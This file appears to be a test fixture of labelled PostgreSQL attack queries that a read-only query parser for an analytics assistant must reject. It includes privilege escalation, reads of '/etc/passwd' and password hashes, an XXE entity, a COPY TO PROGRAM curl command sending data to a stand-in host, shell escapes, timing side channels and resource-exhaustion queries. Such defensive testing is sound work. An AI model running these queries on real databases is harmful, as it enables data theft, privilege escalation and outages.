-- Attacks: what people and models may send, all of which the parser alone must reject. docs/assistant-evaluation.md says how they are
-- read. Long, deeply nested and invisible ones are made by a rule in the tests.

-- id: write-01 why: inserts a row
insert into gold.deal (code) values ('x')

-- id: write-02 why: changes every price
update pipeline_product set list_price = 1

-- id: write-03 why: deletes the deals
delete from public.pipeline_opportunity

-- id: write-04 why: merges
merge into teams_user u using gold.agent a on a.agent_id = u.id when matched then update set role = 'admin'

-- id: write-05 why: upserts
insert into teams_user (email) values ('a@b.c') on conflict (email) do update set role = 'admin'

-- id: write-06 why: empties a table
truncate pipeline_opportunity cascade

-- id: write-07 why: writes and gives rows back
update teams_user set role = 'admin' where email = 'me@example.com' returning *

-- id: write-08 why: deletes and gives rows back
delete from gold.stale_deal returning code

-- id: write-09 why: inserts what it selects
insert into public.analytics_segment select * from gold.account_segment

-- id: ddl-01 why: drops a view
drop view gold.deal

-- id: ddl-02 why: drops the schema
drop schema gold cascade

-- id: ddl-03 why: makes a table
create table stolen (x int)

-- id: ddl-04 why: makes a table of a select
create table gold.copy as select * from gold.deal

-- id: ddl-05 why: makes a temporary table
create temp table t as select * from gold.deal

-- id: ddl-06 why: makes a view without a barrier
create or replace view gold.deal as select 1 as deal_id

-- id: ddl-07 why: makes a function
create function f() returns int language sql as 'select 1'

-- id: ddl-08 why: alters a view
alter view gold.deal set (security_barrier = false)

-- id: ddl-09 why: grants itself all
grant all on all tables in schema public to public

-- id: ddl-10 why: becomes superuser
alter role current_user superuser

-- id: ddl-11 why: a role of its own
create role mallory login superuser

-- id: ddl-12 why: comments on a view
comment on view gold.deal is 'mine'

-- id: ddl-13 why: a trigger
create trigger t before insert on teams_user for each row execute function f()

-- id: ddl-14 why: an extension
create extension dblink

-- id: ddl-15 why: a materialized view
create materialized view gold.m as select 1

-- id: ddl-16 why: refreshes a view
refresh materialized view gold.m

-- id: ddl-17 why: an index
create index on gold.deal (code)

-- id: ddl-18 why: an operator
create operator === (leftarg = int, rightarg = int, function = int4eq)

-- id: select-into-01 why: select into a new table
select * into stolen from gold.deal

-- id: select-into-02 why: select into a temporary table
select code into temp t from gold.deal

-- id: select-into-03 why: into a table among the columns of a join
select d.code into gold.loot from gold.deal d join gold.agent a on a.agent_id = d.agent_id

-- id: select-into-04 why: into at the end of a CTE
with d as (select * from gold.deal) select * into unlogged loot from d

-- id: multiple-01 why: a second statement that drops
select 1 from gold.deal; drop table teams_user

-- id: multiple-02 why: ends the transaction first
select count(*) from gold.deal; commit; delete from pipeline_opportunity

-- id: multiple-03 why: two selects
select count(*) from gold.deal; select count(*) from gold.agent

-- id: multiple-04 why: a setting first
set transaction read write; select count(*) from gold.deal

-- id: multiple-05 why: rolls back the limits
rollback; select * from teams_user

-- id: multiple-06 why: a second statement behind a comment
select count(*) from gold.deal; -- harmless
drop table teams_user

-- id: multiple-07 why: an empty statement between
select count(*) from gold.deal;;select 1

-- id: multiple-08 why: a savepoint
savepoint a; select count(*) from gold.deal; rollback to a

-- id: multiple-09 why: nothing at all but separators
;;;

-- id: data-changing-cte-01 why: deletes inside WITH
with gone as (delete from pipeline_opportunity returning *) select count(*) from gone

-- id: data-changing-cte-02 why: inserts inside WITH
with n as (insert into teams_user (email) values ('x@y.z') returning id) select * from n

-- id: data-changing-cte-03 why: updates inside WITH
with u as (update teams_user set role = 'admin' returning id) select count(*) from gold.deal, u

-- id: data-changing-cte-04 why: nested in a second CTE
with a as (select 1 as x from gold.deal), b as (delete from teams_user returning 1) select x from a

-- id: data-changing-cte-05 why: in a subselect's WITH
select * from (with d as (delete from teams_user returning id) select id from d) as s

-- id: data-changing-cte-06 why: merge inside WITH
with m as (merge into teams_user u using gold.agent a on a.agent_id = u.id when matched then delete returning 1) select * from m

-- id: sleeping-01 why: sleeps
select pg_sleep(60)

-- id: sleeping-02 why: sleeps for each row
select code, pg_sleep(1) from gold.deal

-- id: sleeping-03 why: sleeps in WHERE
select code from gold.deal where pg_sleep(1) is not null

-- id: sleeping-04 why: sleeps in ORDER BY
select code from gold.deal order by pg_sleep(1)

-- id: sleeping-05 why: sleeps until
select pg_sleep_until(now() + interval '1 hour') from gold.deal

-- id: sleeping-06 why: sleeps for
select pg_sleep_for('5 minutes')

-- id: sleeping-07 why: qualified with the catalogue
select pg_catalog.pg_sleep(10) from gold.deal

-- id: sleeping-08 why: quoted
select "pg_sleep"(10) from gold.deal

-- id: sleeping-09 why: in capitals
select PG_SLEEP(10) from gold.deal

-- id: sleeping-10 why: in GROUP BY
select count(*) from gold.deal group by pg_sleep(1)

-- id: sleeping-11 why: in HAVING
select region from gold.deal group by region having pg_sleep(5) is not null

-- id: sleeping-12 why: in a join condition
select d.code from gold.deal d join gold.agent a on a.agent_id = d.agent_id and pg_sleep(1) is null

-- id: sleeping-13 why: in a CASE that is reached
select case when count(*) > 0 then pg_sleep(9) end from gold.deal

-- id: sleeping-14 why: in FILTER
select count(*) filter (where pg_sleep(1) is not null) from gold.deal

-- id: sleeping-15 why: in a window
select sum(won_value) over (partition by pg_sleep(1)) from gold.deal

-- id: sleeping-16 why: in COALESCE
select coalesce(null, pg_sleep(3)::text) from gold.deal

-- id: files-01 why: reads a file
select pg_read_file('/etc/passwd')

-- id: files-02 why: reads bytes
select pg_read_binary_file('postgresql.conf') from gold.deal

-- id: files-03 why: lists a folder
select pg_ls_dir('.')

-- id: files-04 why: lists the log folder
select * from pg_ls_logdir()

-- id: files-05 why: asks about a file
select * from pg_stat_file('postgresql.conf')

-- id: files-06 why: where the data lies
select pg_current_logfile() from gold.deal

-- id: files-07 why: reads through a foreign server
select * from dblink('host=127.0.0.1', 'select 1') as t(x int)

-- id: files-08 why: loads a library
load '/var/lib/evil.so'

-- id: files-09 why: writes a file by administration pack
select pg_file_write('x', 'y', false) from gold.deal

-- id: large-objects-01 why: imports a file
select lo_import('/etc/passwd')

-- id: large-objects-02 why: exports to a file
select lo_export(1, '/var/lib/x') from gold.deal

-- id: large-objects-03 why: makes one
select lo_create(0) from gold.deal

-- id: large-objects-04 why: from bytes
select lo_from_bytea(0, 'x'::bytea) from gold.deal

-- id: large-objects-05 why: reads one
select lo_get(16400) from gold.deal

-- id: large-objects-06 why: removes one
select lo_unlink(16400) from gold.deal

-- id: large-objects-07 why: the catalogue of them
select * from pg_largeobject

-- id: locks-01 why: takes an advisory lock
select pg_advisory_lock(1)

-- id: locks-02 why: tries an advisory lock
select pg_try_advisory_lock(1) from gold.deal

-- id: locks-03 why: until the transaction ends
select pg_advisory_xact_lock(deal_id) from gold.deal

-- id: locks-04 why: releases all
select pg_advisory_unlock_all() from gold.deal

-- id: locks-05 why: locks a table
lock table pipeline_opportunity in access exclusive mode

-- id: locks-06 why: locks rows
select * from gold.deal for update

-- id: locks-07 why: shares a lock
select * from gold.deal for share

-- id: locks-08 why: locks keys, without waiting
select code from gold.deal for no key update nowait

-- id: locks-09 why: locks inside a subselect
select * from (select code from gold.deal for update skip locked) as d

-- id: locks-10 why: locks inside a CTE
with d as (select code from gold.deal for key share) select * from d

-- id: sessions-01 why: ends other sessions
select pg_terminate_backend(pid) from pg_stat_activity

-- id: sessions-02 why: cancels other queries
select pg_cancel_backend(1) from gold.deal

-- id: sessions-03 why: notifies
select pg_notify('jobs', 'x') from gold.deal

-- id: sessions-04 why: the statement for it
notify jobs, 'x'

-- id: sessions-05 why: listens
listen jobs

-- id: sessions-06 why: writes into the log stream
select pg_logical_emit_message(false, 'a', repeat('x', 1000)) from gold.deal

-- id: sessions-07 why: reloads the configuration
select pg_reload_conf()

-- id: sessions-08 why: rotates the log
select pg_rotate_logfile() from gold.deal

-- id: sessions-09 why: switches the log file
select pg_switch_wal() from gold.deal

-- id: sessions-10 why: a snapshot to share
select pg_export_snapshot() from gold.deal

-- id: sessions-11 why: a transaction number
select txid_current() from gold.deal

-- id: sessions-12 why: resets statistics
select pg_stat_reset() from gold.deal

-- id: sessions-13 why: moves a sequence
select nextval('teams_user_id_seq') from gold.deal

-- id: sessions-14 why: sets a sequence
select setval('teams_user_id_seq', 1) from gold.deal

-- id: sessions-15 why: discards everything
discard all

-- id: settings-01 why: sets the time limit
set statement_timeout = 0

-- id: settings-02 why: sets it in a select
select set_config('statement_timeout', '0', false) from gold.deal

-- id: settings-03 why: reads a setting
select current_setting('data_directory') from gold.deal

-- id: settings-04 why: shows all settings
show all

-- id: settings-05 why: shows one
show search_path

-- id: settings-06 why: resets all
reset all

-- id: settings-07 why: turns the transaction around
set transaction read write

-- id: settings-08 why: more memory
select set_config('work_mem', '10GB', true) from gold.deal

-- id: settings-09 why: sets the role
set role postgres

-- id: settings-10 why: the session's owner
set session authorization postgres

-- id: settings-11 why: the view of all settings
select * from pg_settings

-- id: settings-12 why: changes what rows security does
set row_security = off

-- id: settings-13 why: alters the system
alter system set fsync = off

-- id: viewer-01 why: gives itself every owner
select set_config('crm.visible_owners', '{1,2,3}', true), count(*) from gold.deal

-- id: viewer-02 why: in a CTE that runs first
with v as materialized (select set_config('crm.visible_owners', '{1,2,3}', true)) select count(*) from gold.deal, v

-- id: viewer-03 why: in a subselect in FROM
select d.code from (select set_config('crm.visible_owners', '{9}', true)) as v, gold.deal d

-- id: viewer-04 why: in the limit
select * from gold.deal limit length(set_config('crm.visible_owners', '{1,2}', true))

-- id: viewer-05 why: in ORDER BY
select * from gold.deal order by set_config('crm.visible_owners', '{1,2}', false)

-- id: viewer-06 why: by SET
set crm.visible_owners = '{1,2,3}'

-- id: viewer-07 why: by SET LOCAL, then reads
set local crm.visible_owners = '{1,2,3}'; select * from gold.deal

-- id: viewer-08 why: reads who it is
select current_setting('crm.visible_owners') from gold.deal

-- id: viewer-09 why: calls the rule's function
select crm.visible_owners() from gold.deal

-- id: viewer-10 why: calls the function in FROM
select * from crm.visible_owners()

-- id: viewer-11 why: a function that reads without a filter
select * from crm.closed_sales()

-- id: viewer-12 why: in WHERE of a branch of a union
select code from gold.deal where false union select set_config('crm.visible_owners', '{4}', true)

-- id: viewer-13 why: by the function's name in quotes
select "set_config"('crm.visible_owners', '{4}', true) from gold.deal

-- id: viewer-14 why: in an aggregate's argument
select max(set_config('crm.visible_owners', '{4}', true)) from gold.deal

-- id: xml-01 why: runs a query from a text
select query_to_xml('select * from teams_user', true, true, '')

-- id: xml-02 why: dumps a table
select table_to_xml('teams_user', true, false, '') from gold.deal

-- id: xml-03 why: dumps a schema
select schema_to_xml('public', true, false, '')

-- id: xml-04 why: dumps the database
select database_to_xml(true, false, '') from gold.deal

-- id: xml-05 why: a cursor's rows
select cursor_to_xml('c', 10, true, false, '') from gold.deal

-- id: xml-06 why: the schema of a query
select query_to_xmlschema('select * from teams_user', true, true, '') from gold.deal

-- id: xml-07 why: parses a document
select xmlparse(document '<a/>') from gold.deal

-- id: xml-08 why: an element of a row
select xmlelement(name a, d.*) from gold.deal d

-- id: xml-09 why: collects rows
select xmlagg(xmlforest(code)) from gold.deal

-- id: xml-10 why: a table of a document
select * from xmltable('/a' passing '<a/>' columns x text)

-- id: xml-11 why: casts to xml
select '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'::xml from gold.deal

-- id: xml-12 why: paths
select xpath('/a', '<a/>') from gold.deal

-- id: catalogue-01 why: all relations
select * from pg_catalog.pg_class

-- id: catalogue-02 why: without the schema
select relname from pg_class

-- id: catalogue-03 why: roles and hashes
select rolname, rolpassword from pg_authid

-- id: catalogue-04 why: users
select * from pg_user

-- id: catalogue-05 why: the bodies of views
select definition from pg_views where schemaname = 'silver'

-- id: catalogue-06 why: the standard's names
select table_name from information_schema.tables

-- id: catalogue-07 why: columns
select * from information_schema.columns where table_name = 'teams_user'

-- id: catalogue-08 why: functions
select proname, prosrc from pg_proc

-- id: catalogue-09 why: what others run
select query from pg_stat_activity

-- id: catalogue-10 why: statistics with values
select most_common_vals from pg_stats

-- id: catalogue-11 why: sizes
select pg_total_relation_size('teams_user') from gold.deal

-- id: catalogue-12 why: the body of a view by function
select pg_get_viewdef('gold.deal') from gold.deal

-- id: catalogue-13 why: the body of a function
select pg_get_functiondef(1) from gold.deal

-- id: catalogue-14 why: joined to a view
select d.code, c.relname from gold.deal d join pg_class c on c.oid = d.deal_id

-- id: catalogue-15 why: in a subselect
select code from gold.deal where code in (select rolname from pg_roles)

-- id: catalogue-16 why: hidden in EXISTS
select 1 from gold.deal where exists (select 1 from pg_shadow)

-- id: catalogue-17 why: the version
select version() from gold.deal

-- id: catalogue-18 why: who is connected
select current_user, session_user from gold.deal

-- id: catalogue-19 why: the address of the server
select inet_server_addr(), inet_server_port() from gold.deal

-- id: catalogue-20 why: the database's name
select current_database() from gold.deal

-- id: catalogue-21 why: what it may do
select has_table_privilege('teams_user', 'select') from gold.deal

-- id: catalogue-22 why: descriptions
select obj_description(1259, 'pg_class') from gold.deal

-- id: system-columns-01 why: the row's place
select ctid from gold.deal

-- id: system-columns-02 why: the relation's number
select tableoid from gold.deal

-- id: system-columns-03 why: the relation's name by its number
select tableoid::regclass from gold.deal

-- id: system-columns-04 why: the transaction
select xmin, xmax from gold.deal

-- id: system-columns-05 why: qualified
select d.cmin, d.cmax from gold.deal d

-- id: system-columns-06 why: in WHERE
select code from gold.deal where ctid = '(0,1)'

-- id: whole-row-01 why: the alias as a value
select d from gold.deal d

-- id: whole-row-02 why: the view's name as a value
select deal from gold.deal

-- id: whole-row-03 why: compared as a row
select 1 from gold.deal d where d is not null

-- id: whole-row-04 why: as text
select d::text from gold.deal d

-- id: whole-row-05 why: in a function
select length(d::text) from gold.deal d

-- id: whole-row-06 why: ordered by the row
select code from gold.deal d order by d

-- id: whole-row-07 why: counted as a row
select count(distinct d) from gold.deal d

-- id: whole-row-08 why: a row inside a row
select row(d, 1) from gold.deal d

-- id: whole-row-09 why: concatenated
select 'x' || d from gold.deal d

-- id: whole-row-10 why: the CTE's name as a value
with s as (select code from gold.deal) select s from s

-- id: whole-row-11 why: grouped by the row
select count(*) from gold.deal d group by d

-- id: whole-row-12 why: one field of the row
select (d).code from gold.deal d

-- id: whole-row-13 why: all fields of the row
select (d).* from gold.deal d

-- id: call-by-dot-01 why: a function behind a bracket
select (5).pg_sleep from gold.deal

-- id: call-by-dot-02 why: a function behind an alias
select d.row_to_json from gold.deal d

-- id: call-by-dot-03 why: behind a text
select ('/etc/passwd'::text).pg_read_file from gold.deal

-- id: call-by-dot-04 why: behind a column
select (code).upper from gold.deal

-- id: call-by-dot-05 why: the row as text
select d.text from gold.deal d

-- id: call-by-dot-06 why: the row's name
select d.name from gold.deal d

-- id: call-by-dot-07 why: behind a subselect
select ((select 5)).pg_sleep from gold.deal

-- id: call-by-dot-08 why: chained
select ((code).lower).length from gold.deal

-- id: call-by-dot-09 why: behind a CTE's name
with s as (select code from gold.deal) select s.to_jsonb from s

-- id: call-by-dot-10 why: in ORDER BY
select code from gold.deal d order by (3).pg_sleep

-- id: call-by-dot-11 why: in WHERE
select code from gold.deal where (3).pg_sleep is null

-- id: call-by-dot-12 why: setting a setting by a row
select (row('a', 'b', true)).set_config from gold.deal

-- id: reg-casts-01 why: to a relation
select 'teams_user'::regclass from gold.deal

-- id: reg-casts-02 why: its number
select 'teams_user'::regclass::oid::int from gold.deal

-- id: reg-casts-03 why: to a function
select 'pg_sleep'::regproc from gold.deal

-- id: reg-casts-04 why: to a role
select cast('postgres' as regrole) from gold.deal

-- id: reg-casts-05 why: to a type
select 'int4'::regtype from gold.deal

-- id: reg-casts-06 why: to a schema
select 'silver'::regnamespace::text from gold.deal

-- id: reg-casts-07 why: with the type's name first
select regclass 'teams_user' from gold.deal

-- id: reg-casts-08 why: by function
select to_regclass('teams_user') from gold.deal

-- id: reg-casts-09 why: to a type with a schema
select code::pg_catalog.regclass from gold.deal

-- id: reg-casts-10 why: to an internal type
select 'x'::cstring from gold.deal

-- id: reg-casts-11 why: to a type of the catalogue
select '{}'::pg_catalog._text from gold.deal

-- id: reg-casts-12 why: to a row type of a table
select '(1)'::teams_user from gold.deal

-- id: reg-casts-13 why: to a search document
select 'a'::tsvector from gold.deal

-- id: quoting-01 why: dollar quotes hide a statement
select $$x$$; drop table teams_user; select $$y$$

-- id: quoting-02 why: dollar quotes with a tag
select $a$ ' $a$ || query_to_xml($q$select 1$q$, true, true, '') from gold.deal

-- id: quoting-03 why: escaped quotes
select E'\'; drop table teams_user; --' from teams_user

-- id: quoting-04 why: Unicode escapes in a name
select * from U&"\0074eams_user"

-- id: quoting-05 why: Unicode escapes in a text
select U&'\0070g_sleep' from gold.deal

-- id: quoting-06 why: with an escape of its own
select * from U&"!0074eams_user" uescape '!'

-- id: quoting-07 why: a function in Unicode escapes
select U&"pg\005fsleep"(5) from gold.deal

-- id: quoting-08 why: a relation in quotes
select * from "teams_user"

-- id: quoting-09 why: schema and relation as one quoted name
select * from "gold.deal"

-- id: quoting-10 why: capitals that name something else
select * from GOLD."Deal"

-- id: quoting-11 why: a text never closed
select 'abc from gold.deal

-- id: quoting-12 why: a name never closed
select "abc from gold.deal

-- id: quoting-13 why: national text
select N'x' from teams_user

-- id: quoting-14 why: bits as text
select B'1010' from teams_user

-- id: quoting-15 why: texts continued on the next line, with a call after
select 'a'
'b', pg_sleep(5) from gold.deal

-- id: quoting-16 why: a backslash before the quote
select '\', pg_sleep(5), '\' from gold.deal

-- id: comments-01 why: a comment inside the name of a function
select pg_/**/sleep(1) from gold.deal

-- id: comments-02 why: a comment between name and bracket
select pg_sleep/* x */(1) from gold.deal

-- id: comments-03 why: nested comments
select /* /* */ pg_sleep(5) /* */ */ pg_sleep(5) from gold.deal

-- id: comments-04 why: a comment of another system
select /*! pg_sleep(5), */ code from teams_user

-- id: comments-05 why: a comment never closed
select code from gold.deal /* where

-- id: comments-06 why: a call on the line after a comment
select code -- x; from gold.deal
, pg_sleep(1) from gold.deal

-- id: comments-07 why: only a comment
-- nothing

-- id: comments-08 why: a hash is no comment here
select code # from gold.deal
from gold.deal

-- id: look-alikes-01 why: a Cyrillic letter in the view
select * from gold.dеal

-- id: look-alikes-02 why: a Cyrillic letter in SELECT
ѕelect * from teams_user

-- id: look-alikes-03 why: full-width brackets
select pg_sleep（5） from gold.deal

-- id: look-alikes-04 why: full-width letters
select ｐｇ_sleep(5) from gold.deal

-- id: look-alikes-05 why: a full-width semicolon and a second statement
select 1 from teams_user； drop table teams_user

-- id: look-alikes-06 why: a dotless i
select * from pg_catalog.pg_stat_actıvity

-- id: look-alikes-07 why: curly quotes
select * from gold.deal where code = ‘x’ or pg_sleep(1) is null

-- id: look-alikes-08 why: a ligature
select * from gold.ﬁle

-- id: recursion-01 why: counts for ever
with recursive n as (select 1 as x union all select x + 1 from n) select count(*) from n

-- id: recursion-02 why: doubles for ever
with recursive n as (select 'x' as t union all select t || t from n) select max(length(t)) from n

-- id: recursion-03 why: seeded from a view
with recursive n as (select deal_id as x from gold.deal union all select x + 1 from n where x < 1e12) select count(*) from n

-- id: recursion-04 why: reads itself without the word
with n as (select 1 as x from gold.deal union all select x + 1 from n) select * from n

-- id: recursion-05 why: two that call each other
with recursive a as (select 1 as x union all select x from b), b as (select x + 1 as x from a) select * from a

-- id: recursion-06 why: recursion inside a subselect
select * from (with recursive n as (select 1 as x union all select x + 1 from n) select x from n limit 1000000000) as t

-- id: recursion-07 why: walks a graph with CYCLE
with recursive g as (select 1 as x union all select x + 1 from g) cycle x set is_cycle using path select * from g

-- id: recursion-08 why: recursion where nothing recurs
with recursive n as (select code from gold.deal) select * from n

-- id: cartesian-01 why: two views with a comma
select count(*) from gold.deal a, gold.deal b

-- id: cartesian-02 why: three with cross joins
select count(*) from gold.deal a cross join gold.deal b cross join gold.deal c

-- id: cartesian-03 why: a join on true
select count(*) from gold.deal a join gold.deal b on true

-- id: cartesian-04 why: a join on an inequality
select count(*) from gold.deal a join gold.deal b on a.deal_id < b.deal_id

-- id: cartesian-05 why: a join on constants
select count(*) from gold.deal a join gold.deal b on 1 = 1

-- id: cartesian-06 why: an equality of one side with itself
select count(*) from gold.deal a join gold.deal b on a.code = a.code

-- id: cartesian-07 why: seven relations
select count(*) from gold.deal a join gold.deal b on b.deal_id = a.deal_id join gold.deal c on c.deal_id = a.deal_id join gold.deal d on d.deal_id = a.deal_id join gold.deal e on e.deal_id = a.deal_id join gold.deal f on f.deal_id = a.deal_id join gold.deal g on g.deal_id = a.deal_id

-- id: cartesian-08 why: an equality under OR
select count(*) from gold.deal a join gold.deal b on a.deal_id = b.deal_id or true

-- id: cartesian-09 why: an equality under NOT
select count(*) from gold.deal a join gold.deal b on not (a.deal_id = b.deal_id)

-- id: cartesian-10 why: a join of nothing
select count(*) from gold.deal a natural join gold.sales_by_month b cross join gold.deal c

-- id: cartesian-11 why: a left join on true
select count(*) from gold.deal a left join gold.deal b on true

-- id: cartesian-12 why: a comma inside a subselect
select * from gold.agent where agent_id in (select a.agent_id from gold.deal a, gold.deal b)

-- id: cartesian-13 why: products of CTEs
with a as (select code from gold.deal), b as (select a.code from a, a as c) select count(*) from b, b as d

-- id: memory-01 why: a series of a billion
select count(*) from generate_series(1, 1000000000)

-- id: memory-02 why: a series among the columns
select generate_series(1, 1000000000) from gold.deal

-- id: memory-03 why: a long text
select length(repeat('x', 1000000000)) from gold.deal

-- id: memory-04 why: padding
select lpad('x', 1000000000) from gold.deal

-- id: memory-05 why: padding to the right
select rpad(code, 1000000000, 'ab') from gold.deal

-- id: memory-06 why: a big array
select array_fill(0, array[100000000]) from gold.deal

-- id: memory-07 why: an array unrolled
select unnest(array[1, 2, 3]) from gold.deal

-- id: memory-08 why: a factorial
select factorial(100000) from gold.deal

-- id: memory-09 why: text to an array and back
select array_to_string(string_to_array(repeat('a,', 10000000), ','), 'b') from gold.deal

-- id: memory-10 why: a format with a width
select format('%1000000000s', code) from gold.deal

-- id: memory-11 why: a series of days
select d from generate_series('0001-01-01'::timestamp, '9999-12-31', '1 second') as d

-- id: memory-12 why: rows out of a text
select string_to_table(repeat('a,', 10000000), ',') from gold.deal

-- id: memory-13 why: a document of words
select to_tsvector(repeat('word ', 10000000)) from gold.deal

-- id: memory-14 why: statistics of a query in a text
select * from ts_stat('select to_tsvector(email) from teams_user')

-- id: memory-15 why: rewrites by a query in a text
select ts_rewrite('a'::tsquery, 'select * from teams_user') from gold.deal

-- id: memory-16 why: a text in base 64
select encode(decode(repeat('00', 100000000), 'hex'), 'base64') from gold.deal

-- id: regular-expressions-01 why: a bomb
select code from gold.deal where repeat('a', 40) ~ '(a+)+$'

-- id: regular-expressions-02 why: without case
select code from gold.deal where code ~* '(x+x+)+y'

-- id: regular-expressions-03 why: negated
select code from gold.deal where code !~ '((a*)*)*b'

-- id: regular-expressions-04 why: as a function
select regexp_replace(code, '(.*)*', 'x', 'g') from gold.deal

-- id: regular-expressions-05 why: all matches
select regexp_matches(code, '.', 'g') from gold.deal

-- id: regular-expressions-06 why: splits to rows
select regexp_split_to_table(code, '') from gold.deal

-- id: regular-expressions-07 why: SIMILAR TO
select code from gold.deal where code similar to '%((a|b)*)*c%'

-- id: regular-expressions-08 why: substring by a pattern
select substring(code from '(a+)+$') from gold.deal

-- id: regular-expressions-09 why: by the operator's full name
select code from gold.deal where code operator(pg_catalog.~) '(a+)+$'

-- id: regular-expressions-10 why: counts matches
select regexp_count(code, '(a|aa)+$') from gold.deal

-- id: errors-01 why: a value in a cast's error
select cast(email as int) from teams_user

-- id: errors-02 why: division by a secret
select 1 / (case when exists (select 1 from teams_user where role = 'admin') then 0 else 1 end) from gold.deal

-- id: errors-03 why: a name in an error
select crm_secret from gold.deal

-- id: errors-04 why: a column that nobody has
select password from gold.deal

-- id: errors-05 why: a column of a relation that is not joined
select a.email from gold.deal d

-- id: errors-06 why: an error by a function
select raise_error('x') from gold.deal

-- id: errors-07 why: a cast that tells whether a relation exists
select 'silver.deal'::regclass from gold.deal

-- id: timing-01 why: sleeps when a guess is right
select case when (select count(*) from teams_user where password like 'a%') > 0 then pg_sleep(5) end from gold.deal

-- id: timing-02 why: works long when a guess is right
select case when min(code) < 'M' then (select count(*) from generate_series(1, 100000000)) end from gold.deal

-- id: timing-03 why: the clock before and after
select clock_timestamp(), count(*), clock_timestamp() from gold.deal

-- id: timing-04 why: how long it takes
explain analyze select * from gold.deal

-- id: timing-05 why: the time of day, per row
select timeofday() from gold.deal

-- id: schemas-01 why: silver
select * from silver.deal

-- id: schemas-02 why: public
select * from public.pipeline_opportunity

-- id: schemas-03 why: temporary
select * from pg_temp.deal

-- id: schemas-04 why: toast
select * from pg_toast.pg_toast_1

-- id: schemas-05 why: the settings' schema
select * from crm.settings

-- id: schemas-06 why: the same name elsewhere
select * from public.deal

-- id: schemas-07 why: a database in front
select * from postgres.gold.deal

-- id: schemas-08 why: a database of another name
select * from otherdb.silver.deal

-- id: schemas-09 why: changes the path
set search_path = public, gold

-- id: schemas-10 why: a name in no schema
select * from pipeline_opportunity

-- id: schemas-11 why: the table behind TABLE
table teams_user

-- id: schemas-12 why: inside a union
select code from gold.deal union all select email from teams_user

-- id: schemas-13 why: inside a CTE
with u as (select * from teams_user) select count(*) from u

-- id: schemas-14 why: a CTE that hides only in its own scope
select * from (with teams_user as (select code from gold.deal) select * from teams_user) as a, teams_user

-- id: schemas-15 why: a CTE named later is not yet there
with a as (select * from teams_user), teams_user as (select code from gold.deal) select * from a

-- id: schemas-16 why: a CTE's name with a schema is not the CTE
with teams_user as (select code from gold.deal) select * from public.teams_user

-- id: schemas-17 why: an inheritance star
select * from public.teams_user *

-- id: schemas-18 why: only the parent
select * from only teams_user

-- id: schemas-19 why: a view that does not exist
select * from gold.secrets

-- id: django-01 why: password hashes
select email, password from teams_user

-- id: django-02 why: sessions
select * from django_session

-- id: django-03 why: tokens
select digest, token_key from teams_apitoken

-- id: django-04 why: the audit trail
select * from teams_userevent

-- id: django-05 why: migrations
select * from django_migrations

-- id: django-06 why: a hash in a scalar subselect
select code, (select password from teams_user limit 1) from gold.deal

-- id: django-07 why: a hash by correlation
select a.agent, (select u.password from teams_user u where u.id = a.agent_id) from gold.agent a

-- id: django-08 why: notes of everybody
select body from pipeline_activity

-- id: django-09 why: celery's results
select * from django_celery_results_taskresult

-- id: copy-01 why: to a program
copy (select * from gold.deal) to program 'curl -d @- http://example.com'

-- id: copy-02 why: to a file
copy gold.deal to '/var/lib/deals.csv'

-- id: copy-03 why: to the client
copy teams_user to stdout

-- id: copy-04 why: from a file
copy teams_user from '/var/lib/users.csv'

-- id: copy-05 why: from a program
copy teams_user from program 'id'

-- id: procedural-01 why: an anonymous block
do $$ begin perform pg_sleep(10); end $$

-- id: procedural-02 why: a block in a named language
do language plpgsql $x$ begin delete from teams_user; end $x$

-- id: procedural-03 why: calls a procedure
call drop_everything()

-- id: procedural-04 why: EXECUTE of a text
execute 'select 1'

-- id: procedural-05 why: prepares and executes
prepare p as delete from teams_user

-- id: procedural-06 why: executes what was prepared
execute p

-- id: procedural-07 why: takes a prepared one away
deallocate all

-- id: procedural-08 why: a cursor
declare c cursor with hold for select * from teams_user

-- id: procedural-09 why: reads a cursor
fetch all from c

-- id: procedural-10 why: moves a cursor
move forward 10 in c

-- id: procedural-11 why: closes it
close all

-- id: commands-01 why: explains
explain select * from teams_user

-- id: commands-02 why: explains by running a write
explain analyze delete from teams_user

-- id: commands-03 why: explains with options
explain (analyze, verbose, buffers, format json) select * from gold.deal

-- id: commands-04 why: cleans up
vacuum full

-- id: commands-05 why: analyses
analyze teams_user

-- id: commands-06 why: clusters
cluster teams_user

-- id: commands-07 why: reindexes
reindex database postgres

-- id: commands-08 why: a checkpoint
checkpoint

-- id: commands-09 why: begins
begin

-- id: commands-10 why: commits
commit

-- id: commands-11 why: prepares a transaction
prepare transaction 'x'

-- id: commands-12 why: security labels
security label on table teams_user is 'x'

-- id: commands-13 why: a rule
create rule r as on select to gold.agent do instead delete from teams_user

-- id: commands-14 why: imports a schema
import foreign schema public from server s into gold

-- id: commands-15 why: reassigns what is owned
reassign owned by current_user to postgres

-- id: sampling-and-operators-01 why: a sample of a view
select * from gold.deal tablesample system (10)

-- id: sampling-and-operators-02 why: a sample of a table
select * from teams_user tablesample bernoulli (100) repeatable (1)

-- id: sampling-and-operators-03 why: an operator by its schema
select 1 operator(pg_catalog.+) 1 from gold.deal

-- id: sampling-and-operators-04 why: an operator of a foreign schema
select code operator(public.===) 'x' from gold.deal

-- id: sampling-and-operators-05 why: search operator
select code from gold.deal where code @@ 'a'

-- id: sampling-and-operators-06 why: a path operator
select code from gold.deal where '{}'::jsonb @? '$.a' and code is not null

-- id: sampling-and-operators-07 why: a positional parameter
select code from gold.deal where code = $1

-- id: sampling-and-operators-08 why: a named parameter
select code from gold.deal where code = :code

-- id: sampling-and-operators-09 why: a driver's parameter
select code from gold.deal where code = %s

-- id: sampling-and-operators-10 why: a driver's named parameter
select code from gold.deal where code = %(code)s

-- id: sampling-and-operators-11 why: a question mark
select code from gold.deal where code = ?

-- id: sampling-and-operators-12 why: a variable of a shell
select :'HOME' from gold.deal

-- id: sampling-and-operators-13 why: a command of a shell
\copy gold.deal to 'x'

-- id: sampling-and-operators-14 why: another command of a shell
\! id

-- id: table-functions-01 why: in LATERAL
select * from gold.deal d, lateral (select pg_sleep(d.deal_id)) as s

-- id: table-functions-02 why: a function in LATERAL
select * from gold.deal d cross join lateral generate_series(1, d.deal_id) as g

-- id: table-functions-03 why: a function with ordinality
select * from unnest(array['a', 'b']) with ordinality

-- id: table-functions-04 why: ROWS FROM
select * from rows from (generate_series(1, 9), pg_ls_dir('.')) as x

-- id: table-functions-05 why: with a list of columns
select * from json_to_recordset('[{"a":1}]') as x(a int)

-- id: table-functions-06 why: keys of an object
select jsonb_object_keys('{"a":1}') from gold.deal

-- id: table-functions-07 why: each of an object
